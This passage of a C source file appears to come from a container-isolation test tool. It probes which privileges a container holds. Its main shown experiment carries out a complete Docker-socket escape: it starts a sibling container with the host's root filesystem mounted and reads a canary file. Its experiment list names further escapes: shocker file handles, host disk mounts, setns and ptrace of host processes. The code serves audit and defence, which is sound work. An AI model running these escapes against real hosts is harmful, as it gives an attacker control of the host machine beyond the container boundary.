	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		r = -errno;
		if (fd >= 0)
			close(fd);
		strbuf_addf(why, "connecting to %s failed: %s", sock, strerror(-r));
		return r;
	}
	strbuf_addf(&req, "%s %s HTTP/1.1\r\nHost: docker\r\nUser-Agent: isolab-probe\r\nConnection: close\r\n",
		    method, target);
	if (body)
		strbuf_addf(&req, "Content-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
			    strlen(body), body);
	else if (strcmp(method, "GET"))
		strbuf_adds(&req, "Content-Length: 0\r\n\r\n");
	else
		strbuf_adds(&req, "\r\n");
	r = send_all(fd, req.buf, req.len);
	if (r < 0) {
		close(fd);
		strbuf_addf(why, "sending %s %s failed: %s", method, target, strerror(-r));
		return r;
	}
	return fd;
}

/* Read the whole answer (the engine closes the connection after it) into
 * raw, within the probe's deadline. Returns 0 or -errno with why filled. */
static int http_read_all(int fd, const char *method, const char *target, struct strbuf *raw,
			 struct strbuf *why)
{
	long long deadline = now_ms() + PROBE_HTTP_TIMEOUT_MS;

	for (;;) {
		struct pollfd pfd = {fd, POLLIN, 0};
		long long left = deadline - now_ms();
		char chunk[8192];
		ssize_t n;
		int r;

		if (left <= 0) {
			strbuf_addf(why, "%s %s got no complete answer within %d s", method, target,
				    PROBE_HTTP_TIMEOUT_MS / 1000);
			return -ETIMEDOUT;
		}
		r = poll(&pfd, 1, (int)left);
		if (r < 0 && errno == EINTR)
			continue;
		if (r < 0) {
			r = -errno;
			strbuf_addf(why, "waiting for the answer failed: %s", strerror(-r));
			return r;
		}
		if (r == 0)
			continue;
		n = read(fd, chunk, sizeof(chunk));
		if (n < 0 && errno == EINTR)
			continue;
		if (n < 0) {
			r = -errno;
			strbuf_addf(why, "reading the answer to %s %s failed: %s", method, target,
				    strerror(-r));
			return r;
		}
		if (n == 0)
			return 0;
		if (raw->len + (size_t)n > PROBE_HTTP_MAX) {
			strbuf_addf(why, "the answer to %s %s is larger than %d bytes", method, target,
				    PROBE_HTTP_MAX);
			return -EMSGSIZE;
		}
		strbuf_add(raw, chunk, (size_t)n);
	}
}

/* The status of a status line, "HTTP/1.1 200 OK\r\n", or -1 when it is not
 * one. */
static int http_status(const char *line)
{
	const char *p, *digits;
	char *end;
	long v;

	if (strncmp(line, "HTTP/1.", strlen("HTTP/1.")) != 0)
		return -1;
	p = line + strlen("HTTP/1.");
	for (digits = p; *p >= '0' && *p <= '9'; p++)
		;
	if (p == digits || *p != ' ')
		return -1;
	errno = 0;
	v = strtol(p + 1, &end, 10);
	if (errno || end == p + 1 || v < 100 || v > 999 || (*end != ' ' && *end != '\r'))
		return -1;
	return (int)v;
}

/* Split a whole HTTP/1.1 answer into its status and body (chunked, sized
 * by Content-Length, or up to EOF). Returns 0 or -EPROTO with why filled. */
static int http_parse(const struct strbuf *raw, const char *method, const char *target,
		      struct http_resp *resp, struct strbuf *why)
{
	const char *hdr_end, *line, *cl = NULL;
	bool chunked = false;
	size_t hlen;

	hdr_end = raw->buf ? strstr(raw->buf, "\r\n\r\n") : NULL;
	resp->status = hdr_end ? http_status(raw->buf) : -1;
	if (resp->status < 0) {
		strbuf_addf(why, "the answer to %s %s is not HTTP", method, target);
		return -EPROTO;
	}
	hlen = (size_t)(hdr_end - raw->buf) + 4;
	for (line = strstr(raw->buf, "\r\n") + 2; line < hdr_end;) {
		const char *eol = strstr(line, "\r\n"), *v;

		if (header_is(line, (size_t)(eol - line), "Transfer-Encoding", &v) &&
		    !strncasecmp(v, "chunked", 7))
			chunked = true;
		else if (header_is(line, (size_t)(eol - line), "Content-Length", &v))
			cl = v;
		line = eol + 2;
	}
	if (chunked) {
		if (http_dechunk(raw->buf + hlen, raw->len - hlen, &resp->body) < 0) {
			strbuf_addf(why, "the chunked answer to %s %s is malformed", method, target);
			return -EPROTO;
		}
	} else if (cl) {
		unsigned long long want = strtoull(cl, NULL, 10);

		if (want > raw->len - hlen) {
			strbuf_addf(why, "the answer to %s %s is cut short", method, target);
			return -EPROTO;
		}
		strbuf_add(&resp->body, raw->buf + hlen, (size_t)want);
	} else {
		strbuf_add(&resp->body, raw->buf + hlen, raw->len - hlen);
	}
	return 0;
}

/* One request on a fresh connection ("Connection: close": the response ends
 * at EOF). Returns 0 with *resp filled, or -errno; why says what failed. */
static int http_call(const char *sock, const char *method, const char *target, const char *body,
		     struct http_resp *resp, struct strbuf *why)
{
	cleanup_strbuf struct strbuf raw = STRBUF_INIT;
	cleanup_close int fd = -1;
	int r;

	strbuf_reset(&resp->body);
	resp->status = 0;
	fd = http_send(sock, method, target, body, why);
	if (fd < 0)
		return fd;
	r = http_read_all(fd, method, target, &raw, why);
	if (r < 0)
		return r;
	return http_parse(&raw, method, target, resp, why);
}

/* The string value of the first "key" in a JSON text, unescaped enough for
 * ids, versions and messages. Returns false when there is none. */
static bool json_find_string(const char *text, const char *key, struct strbuf *out)
{
	cleanup_strbuf struct strbuf pat = STRBUF_INIT;
	const char *p;

	strbuf_addf(&pat, "\"%s\"", key);
	for (p = text ? strstr(text, pat.buf) : NULL; p; p = strstr(p + 1, pat.buf)) {
		const char *v = p + pat.len;

		while (*v == ' ' || *v == '\t' || *v == '\n' || *v == '\r')
			v++;
		if (*v != ':')
			continue;
		v++;
		while (*v == ' ' || *v == '\t' || *v == '\n' || *v == '\r')
			v++;
		if (*v != '"')
			continue;
		for (v++; *v && *v != '"'; v++) {
			if (*v == '\\' && v[1]) {
				v++;
				switch (*v) {
				case 'n':
					strbuf_addc(out, '\n');
					break;
				case 't':
					strbuf_addc(out, '\t');
					break;
				case 'u':
					strbuf_addc(out, '?');
					v += strnlen(v + 1, 4);
					break;
				default:
					strbuf_addc(out, *v);
				}
			} else {
				strbuf_addc(out, *v);
			}
		}
		return true;
	}
	return false;
}

static bool json_find_int(const char *text, const char *key, long long *v)
{
	cleanup_strbuf struct strbuf pat = STRBUF_INIT;
	const char *p;

	strbuf_addf(&pat, "\"%s\":", key);
	p = text ? strstr(text, pat.buf) : NULL;
	if (!p)
		return false;
	p += pat.len;
	while (*p == ' ')
		p++;
	if (*p != '-' && (*p < '0' || *p > '9'))
		return false;
	*v = strtoll(p, NULL, 10);
	return true;
}

/* Non-TTY logs come as frames: 1 byte stream, 3 zero bytes, 4 bytes size
 * (big-endian), then the data. Anything else is taken as raw text. */
static void docker_demux(const char *p, size_t n, struct strbuf *out, struct strbuf *errs)
{
	const unsigned char *u = (const unsigned char *)p;
	size_t i = 0;

	while (i + 8 <= n && u[i] <= 2 && !u[i + 1] && !u[i + 2] && !u[i + 3]) {
		size_t size = (size_t)u[i + 4] << 24 | (size_t)u[i + 5] << 16 | (size_t)u[i + 6] << 8 |
			      u[i + 7];

		if (size > n - i - 8)
			size = n - i - 8;
		strbuf_add(u[i] == 2 ? errs : out, p + i + 8, size);
		i += 8 + size;
	}
	if (i < n)
		strbuf_add(out, p + i, n - i);
}

static bool valid_name(const char *s)
{
	const char *p;

	if (!((*s >= 'a' && *s <= 'z') || (*s >= 'A' && *s <= 'Z') || (*s >= '0' && *s <= '9')))
		return false;
	for (p = s; *p; p++)
		if (!((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') ||
		      (*p >= '0' && *p <= '9') || *p == '_' || *p == '.' || *p == '-'))
			return false;
	return p - s < 128;
}

static bool valid_id(const char *s)
{
	size_t n = strspn(s, "0123456789abcdef");

	return n >= 12 && n <= 64 && !s[n];
}

struct docker_args {
	const char *socket;
	const char *image;
	const char *canary;
	const char *name;
	const char *labels[PROBE_MAX_LABELS];
	size_t nlabels;
};

static int docker_parse_args(const struct experiment *e, int argc, char **argv, struct docker_args *a)
{
	size_t k;
	int i;

	a->socket = PROBE_DEFAULT_SOCKET;
	for (i = 0; i < argc; i++) {
		const char *opt = argv[i], *val;

		if (i + 1 >= argc)
			return usage_error(e, "option '%s' needs a value", opt);
		val = argv[++i];
		if (!strcmp(opt, "--socket"))
			a->socket = val;
		else if (!strcmp(opt, "--image"))
			a->image = val;
		else if (!strcmp(opt, "--canary"))
			a->canary = val;
		else if (!strcmp(opt, "--name"))
			a->name = val;
		else if (!strcmp(opt, "--label")) {
			if (a->nlabels == PROBE_MAX_LABELS)
				return usage_error(e, "at most %d labels", PROBE_MAX_LABELS);
			a->labels[a->nlabels++] = val;
		} else
			return usage_error(e, "unknown option '%s'", opt);
	}
	if (!valid_abs_path(a->socket) || strlen(a->socket) >= sizeof(((struct sockaddr_un *)0)->sun_path))
		return usage_error(e, "--socket must be an absolute path shorter than %zu bytes",
				   sizeof(((struct sockaddr_un *)0)->sun_path));
	if (!a->image || !*a->image || strlen(a->image) > 255 || strpbrk(a->image, " \t") || has_ctl(a->image))
		return usage_error(e, "--image IMG is needed (an image name without spaces)");
	if (!a->canary || !valid_abs_path(a->canary) || strstr(a->canary, "/../") ||
	    (strlen(a->canary) >= 3 && !strcmp(a->canary + strlen(a->canary) - 3, "/..")))
		return usage_error(e, "--canary HOSTPATH is needed: an absolute host path without '..'");
	if (!a->name || !valid_name(a->name))
		return usage_error(e, "--name NAME is needed: letters, digits, '_', '.', '-', starting with a letter or digit");
	if (!a->nlabels)
		return usage_error(e, "at least one --label K=V is needed, so the sibling can be found and removed");
	for (k = 0; k < a->nlabels; k++) {
		const char *eq = strchr(a->labels[k], '=');

		if (!eq || eq == a->labels[k] || has_ctl(a->labels[k]))
			return usage_error(e, "--label wants K=V with a non-empty key, not '%s'", a->labels[k]);
	}
	return 0;
}

static void docker_create_body(const struct docker_args *a, struct strbuf *out)
{
	cleanup_json struct json j = {STRBUF_INIT, true};
	cleanup_strbuf struct strbuf host_path = STRBUF_INIT;
	size_t k;

	strbuf_addf(&host_path, "/host%s", a->canary);
	json_begin(&j);
	json_str(&j, "Image", a->image);
	json_open(&j, "Cmd", '[');
	json_elem_str(&j, "cat");
	json_elem_str(&j, host_path.buf);
	json_close(&j, ']');
	json_open(&j, "Labels", '{');
	for (k = 0; k < a->nlabels; k++) {
		const char *eq = strchr(a->labels[k], '=');

		json_keyn(&j, a->labels[k], (size_t)(eq - a->labels[k]));
		json_quote(&j.sb, eq + 1, strlen(eq + 1));
	}
	json_close(&j, '}');
	json_open(&j, "HostConfig", '{');
	json_open(&j, "Binds", '[');
	json_elem_str(&j, "/:/host:ro");
	json_close(&j, ']');
	json_str(&j, "NetworkMode", "none");
	json_bool(&j, "AutoRemove", false);
	json_close(&j, '}');
	strbuf_addc(&j.sb, '}');
	strbuf_add(out, j.sb.buf, j.sb.len);
}

/* An API answer that is not 2xx, as a sentence fragment. */
static void api_complaint(const char *what, const struct http_resp *resp, struct strbuf *why)
{
	cleanup_strbuf struct strbuf msg = STRBUF_INIT;

	if (json_find_string(resp->body.buf, "message", &msg))
		strbuf_addf(why, "%s answered HTTP %d: %s", what, resp->status, msg.buf);
	else
		strbuf_addf(why, "%s answered HTTP %d", what, resp->status);
}

/* A step the API answered with an error status: not an errno. */
#define API_REFUSED 1

/* Whether a mounted Docker socket answers as an engine: the socket's file,
 * then GET /version. Returns true with version filled; otherwise false with
 * *o, *err and d saying why. */
static bool docker_reach(const char *sock, struct http_resp *resp, struct strbuf *version,
			 struct strbuf *api, enum outcome *o, int *err, struct strbuf *d)
{
	cleanup_strbuf struct strbuf why = STRBUF_INIT;
	struct stat st;
	int r;

	if (stat(sock, &st) < 0) {
		*err = errno;
		if (*err == ENOENT)
			strbuf_addf(d, "No Docker socket is mounted: %s does not exist in this container, so there is no API to reach.",
				    sock);
		else
			strbuf_addf(d, "Cannot look at %s: %s.", sock, strerror(*err));
		*o = *err == EACCES ? DENIED : FAILED;
		return false;
	}
	if (!S_ISSOCK(st.st_mode)) {
		*err = ENOTSOCK;
		strbuf_addf(d, "%s exists but is not a socket, so there is no Docker API behind it.", sock);
		return false;
	}
	r = http_call(sock, "GET", "/version", NULL, resp, &why);
	if (r < 0) {
		*err = -r;
		if (*err == EACCES || *err == EPERM) {
			*o = DENIED;
			strbuf_addf(d, "Connecting to the Docker socket %s was refused with %s: its file permissions do not let this user in (root, or the docker group, is needed).",
				    sock, errno_name(*err));
		} else if (*err == ECONNREFUSED) {
			strbuf_addf(d, "Nothing listens on %s (ECONNREFUSED): the socket is mounted but no engine answers.",
				    sock);
		} else {
			strbuf_addf(d, "The Docker API could not be reached: %s.", why.buf);
		}
		return false;
	}
	if (resp->status != 200) {
		api_complaint("GET /version", resp, &why);
		strbuf_addf(d, "The socket %s answered, but not as a Docker API: %s.", sock, why.buf);
		return false;
	}
	json_find_string(resp->body.buf, "Version", version);
	json_find_string(resp->body.buf, "ApiVersion", api);
	return true;
}

/* What is asked of the sibling once created, in order: each call, the
 * statuses that mean it worked, and what d says when it did not. */
static const struct sibling_call {
	const char *method, *path, *name, *failed;
	int ok, also_ok;
} sibling_calls[] = {
	{"POST", "start", "POST /containers/start", "created the sibling, but starting it failed", 204, 304},
	{"POST", "wait", "POST /containers/wait", "started the sibling, but waiting for it failed", 200, 200},
	{"GET", "logs?stdout=1&stderr=1", "GET /containers/logs", "ran the sibling, but reading its output failed",
	 200, 200},
};

/* Start the created sibling, wait for it and read its logs (left in resp).
 * Returns true, or false with *err and d saying which call failed. */
static bool sibling_run(const char *sock, const char *id, const char *version, struct http_resp *resp,
			long long *exit_code, int *err, struct strbuf *d)
{
	for (size_t i = 0; i < sizeof(sibling_calls) / sizeof(sibling_calls[0]); i++) {
		const struct sibling_call *c = &sibling_calls[i];
		cleanup_strbuf struct strbuf target = STRBUF_INIT;
		cleanup_strbuf struct strbuf why = STRBUF_INIT;
		int r;

		strbuf_addf(&target, "/containers/%s/%s", id, c->path);
		r = http_call(sock, c->method, target.buf, NULL, resp, &why);
		if (r >= 0 && resp->status != c->ok && resp->status != c->also_ok) {
			api_complaint(c->name, resp, &why);
			r = API_REFUSED;
		}
		if (r != 0) {
			*err = r < 0 ? -r : 0;
			strbuf_addf(d, "The Docker API answered (engine %s) and %s: %s.", version, c->failed,
				    why.buf);
			return false;
		}
		if (!strcmp(c->path, "wait"))
			json_find_int(resp->body.buf, "StatusCode", exit_code);
	}
	return true;
}

/* Create the sibling through the API. Returns true with id filled, or false
 * with *err and d saying why. */
static bool sibling_create(const struct docker_args *a, const char *version, struct http_resp *resp,
			   struct strbuf *id, int *err, struct strbuf *d)
{
	cleanup_strbuf struct strbuf body = STRBUF_INIT;
	cleanup_strbuf struct strbuf target = STRBUF_INIT;
	cleanup_strbuf struct strbuf why = STRBUF_INIT;
	int r;

	docker_create_body(a, &body);
	strbuf_addf(&target, "/containers/create?name=%s", a->name);
	r = http_call(a->socket, "POST", target.buf, body.buf, resp, &why);
	if (r < 0 || resp->status != 201) {
		*err = r < 0 ? -r : 0;
		if (r >= 0)
			api_complaint("POST /containers/create", resp, &why);
		strbuf_addf(d, "The Docker API answered (engine %s), but creating the sibling container failed: %s%s.",
			    version, why.buf,
			    r >= 0 && resp->status == 404 ? " (the probe never pulls: the image must already be on the host)" : "");
		return false;
	}
	if (!json_find_string(resp->body.buf, "Id", id) || !valid_id(id->buf)) {
		strbuf_addf(d, "The Docker API created something, but its answer holds no container id; look for containers named %s.",
			    a->name);
		return false;
	}
	return true;
}

/* Remove the sibling whatever happened; d says so when that fails. */
static bool sibling_remove(const struct docker_args *a, const char *id, struct http_resp *resp,
			   struct strbuf *d)
{
	cleanup_strbuf struct strbuf target = STRBUF_INIT;
	cleanup_strbuf struct strbuf why = STRBUF_INIT;
	bool removed;
	int r;

	strbuf_addf(&target, "/containers/%s?force=1", id);
	r = http_call(a->socket, "DELETE", target.buf, NULL, resp, &why);
	removed = r == 0 && (resp->status == 204 || resp->status == 404);
	if (!removed) {
		if (r == 0)
			api_complaint("DELETE /containers", resp, &why);
		strbuf_addf(d, " Removing the sibling %s failed (%s): remove it with docker rm -f %s.", a->name,
			    why.buf, a->name);
	}
	return removed;
}

/* What the sibling's run showed: the canary, or why cat failed. */
static void sibling_describe(const struct docker_args *a, const char *version, long long exit_code,
			     const struct http_resp *resp, struct strbuf *canary, struct strbuf *d)
{
	cleanup_strbuf struct strbuf out = STRBUF_INIT;
	cleanup_strbuf struct strbuf errs = STRBUF_INIT;
	cleanup_strbuf struct strbuf msg = STRBUF_INIT;

	docker_demux(strbuf_str(&resp->body), resp->body.len, &out, &errs);
	if (exit_code == 0) {
		first_line(strbuf_str(&out), out.len, canary);
		strbuf_addf(d, "The Docker API at %s answered (engine %s): a sibling container %s was created with the host's / bind-mounted at /host, ran cat /host%s and was removed; the canary is in \"output\". Whoever reaches this socket commands the engine, and so the host; mounting the socket read-only changes nothing.",
			    a->socket, version, a->name, a->canary);
		return;
	}
	first_line(strbuf_str(&errs), errs.len, &msg);
	strbuf_addf(d, "The Docker API at %s answered (engine %s) and ran a sibling container %s with the host's / bind-mounted at /host, so the engine is at this container's command; but cat /host%s exited with status %lld (%s).",
		    a->socket, version, a->name, a->canary, exit_code, msg.len ? msg.buf : "no message");
}

static int exp_docker_socket(const struct experiment *e, int argc, char **argv)
{
	struct docker_args a = {NULL, NULL, NULL, NULL, {NULL}, 0};
	cleanup_strbuf struct strbuf d = STRBUF_INIT;
	cleanup_strbuf struct strbuf version = STRBUF_INIT;
	cleanup_strbuf struct strbuf api = STRBUF_INIT;
	cleanup_strbuf struct strbuf id = STRBUF_INIT;
	cleanup_strbuf struct strbuf canary = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	struct http_resp resp = {0, STRBUF_INIT};
	enum outcome o = FAILED;
	long long exit_code = -1;
	bool created = false, removed = false;
	const char *ver;
	int err = 0;

	if (docker_parse_args(e, argc, argv, &a))
		return PROBE_EXIT_USAGE;
	if (docker_reach(a.socket, &resp, &version, &api, &o, &err, &d)) {
		ver = version.len ? version.buf : "?";
		created = sibling_create(&a, ver, &resp, &id, &err, &d);
		if (created && sibling_run(a.socket, id.buf, ver, &resp, &exit_code, &err, &d)) {
			o = ALLOWED;
			sibling_describe(&a, ver, exit_code, &resp, &canary, &d);
		}
	}
	if (created)
		removed = sibling_remove(&a, id.buf, &resp, &d);
	report_begin(&j, e, o, err, &d);
	if (o == ALLOWED)
		json_str(&j, "output", exit_code == 0 ? strbuf_str(&canary) : NULL);
	json_str(&j, "engine_version", version.len ? version.buf : NULL);
	json_str(&j, "api_version", api.len ? api.buf : NULL);
	json_str(&j, "socket", a.socket);
	if (created) {
		json_str(&j, "sibling", a.name);
		json_str(&j, "sibling_id", id.buf);
		json_int(&j, "sibling_exit_code", exit_code);
		json_bool(&j, "sibling_removed", removed);
	}
	strbuf_release(&resp.body);
	return json_emit(&j);
}

/* --- self, list, main ------------------------------------------------------------- */

static int cmd_self(void)
{
	static const char *const caps[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"};
	cleanup_strbuf struct strbuf status = STRBUF_INIT;
	cleanup_json struct json j = {STRBUF_INIT, true};
	char *names[32] = {0};
	size_t n = 0, i;
	struct utsname un;
	struct dirent *de;
	DIR *dir;

	read_file_at(AT_FDCWD, "/proc/self/status", &status, PROBE_READ_MAX);
	json_begin(&j);
	json_int(&j, "uid", (long long)getuid());
	json_int(&j, "gid", (long long)getgid());
	json_str(&j, "hostname", uname(&un) == 0 ? un.nodename : NULL);
	json_open(&j, "caps", '{');
	for (i = 0; i < ARRAY_SIZE(caps); i++) {
		cleanup_free char *v = status_field(&status, caps[i]);

		json_str(&j, caps[i], v);
	}
	json_close(&j, '}');
	for (i = 0; i < 2; i++) {
		cleanup_free char *v = status_field(&status, i ? "Seccomp" : "NoNewPrivs");
		long long num;

		if (v && parse_num(v, 10, &num))
			json_int(&j, i ? "seccomp" : "no_new_privs", num);
		else
			json_str(&j, i ? "seccomp" : "no_new_privs", NULL);
	}
	json_open(&j, "namespaces", '{');
	dir = opendir("/proc/self/ns");
	while (dir && (de = readdir(dir)) && n < ARRAY_SIZE(names)) {
		if (de->d_name[0] == '.')
			continue;
		names[n] = xstrdup(de->d_name);
		n++;
	}
	if (dir)
		closedir(dir);
	qsort(names, n, sizeof(*names), cmp_str);
	for (i = 0; i < n; i++) {
		char path[PATH_MAX], link[256];
		ssize_t len;

		snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
		len = readlink(path, link, sizeof(link) - 1);
		if (len >= 0)
			json_strn(&j, names[i], link, (size_t)len);
		else
			json_str(&j, names[i], NULL);
		free(names[i]);
	}
	json_close(&j, '}');
	json_int(&j, "pid", (long long)getpid());
	return json_emit(&j);
}

static const struct experiment experiments[] = {
	{"chown", "cap_chown", "", "chown a new file under /tmp to another user", exp_chown},
	{"net_raw", "cap_net_raw", "", "open a raw ICMP socket", exp_net_raw},
	{"bind_low_port", "cap_net_bind_service", "",
	 "bind TCP port 80 and report net.ipv4.ip_unprivileged_port_start", exp_bind_low_port},
	{"setuid", "the bounding set", "",
	 "execve a setuid-root copy of the probe and report the capabilities the kernel granted", exp_setuid},
	{"icmp_dgram", "none (net.ipv4.ping_group_range)", "",
	 "open an ICMP datagram socket, as ping does without cap_net_raw", exp_icmp_dgram},
	{"net_admin", "cap_net_admin", "",
	 "set the loopback MTU to its current value in the container's own network namespace", exp_net_admin},
	{"sys_admin", "cap_sys_admin", "", "mount a tmpfs under /tmp and unmount it", exp_sys_admin},
	{"sys_ptrace", "cap_sys_ptrace", "PID",
	 "read the environment of a host process (the witness) and its ISOLAB_NONCE", exp_sys_ptrace},
	{"sys_module", "cap_sys_module", "", "call init_module with an empty module", exp_sys_module},
	{"sys_boot", "cap_sys_boot", "",
	 "call reboot with invalid magic numbers: EPERM without the capability, EINVAL with it", exp_sys_boot},
	{"mknod", "cap_mknod", "", "create a character device node 1:3 under /tmp and remove it", exp_mknod},
	{"dac_read_search", "cap_dac_read_search", "[CANARY_PATH]",
	 "open the host's root directory from a forged file handle (shocker, read-only) and read a canary",
	 exp_dac_read_search},
	{"mount_disk", "cap_sys_admin", "CANARY_PATH",
	 "mount the host's disk (the one behind /etc/hostname) read-only and read a canary on it",
	 exp_mount_disk},
	{"setns", "cap_sys_admin", "PID [CANARY_PATH]",
	 "enter the uts and mount namespaces of a host process (the witness) and read a canary there", exp_setns},
	{"block_device", "cap_mknod", "",
	 "make a node for the host's root disk, open it read-only and look for the ext4 superblock",
	 exp_block_device},
	{"docker_socket", "none (the Docker API)",
	 "[--socket PATH] --image IMG --canary HOSTPATH --name NAME --label K=V [--label K=V...]",
	 "run a sibling container with the host's / mounted through the Docker API and read a canary",
	 exp_docker_socket},
};

static int cmd_list(void)
{
	cleanup_json struct json j = {STRBUF_INIT, true};
	size_t i;

	for (i = 0; i < ARRAY_SIZE(experiments); i++) {
		int r;

		json_begin(&j);
		json_str(&j, "experiment", experiments[i].name);
		json_str(&j, "capability", experiments[i].capability);
		json_str(&j, "summary", experiments[i].summary);
		json_str(&j, "args", experiments[i].args);
		r = json_emit(&j);
		if (r)
			return r;
	}
	return PROBE_EXIT_RAN;
}

static void usage(FILE *f)
{
	size_t i;

	fputs("usage: probe self | list | EXPERIMENT [ARGS]\n"
	      "Each command prints JSON lines on stdout and exits 0 once it ran, 2 on bad usage.\n"
	      "Experiments:\n",
	      f);
	for (i = 0; i < ARRAY_SIZE(experiments); i++)
		fprintf(f, "  %s%s%s\n", experiments[i].name, *experiments[i].args ? " " : "",
			experiments[i].args);
}

int main(int argc, char **argv)
{
	size_t i;

	if (argc < 2) {
		usage(stderr);
		return PROBE_EXIT_USAGE;
	}
	if (!strcmp(argv[1], "-h") || !strcmp(argv[1], "--help") || !strcmp(argv[1], "help")) {
		usage(stdout);
		return PROBE_EXIT_RAN;
	}
	if (!strcmp(argv[1], "self") || !strcmp(argv[1], "list")) {
		if (argc > 2) {
			fprintf(stderr, "probe: %s takes no arguments\n", argv[1]);
			return PROBE_EXIT_USAGE;
		}
		return argv[1][0] == 's' ? cmd_self() : cmd_list();
	}
	for (i = 0; i < ARRAY_SIZE(experiments); i++)
		if (!strcmp(argv[1], experiments[i].name))
			return experiments[i].run(&experiments[i], argc - 2, argv + 2);
	fprintf(stderr, "probe: unknown command '%s'\n", argv[1]);
	usage(stderr);
	return PROBE_EXIT_USAGE;
}
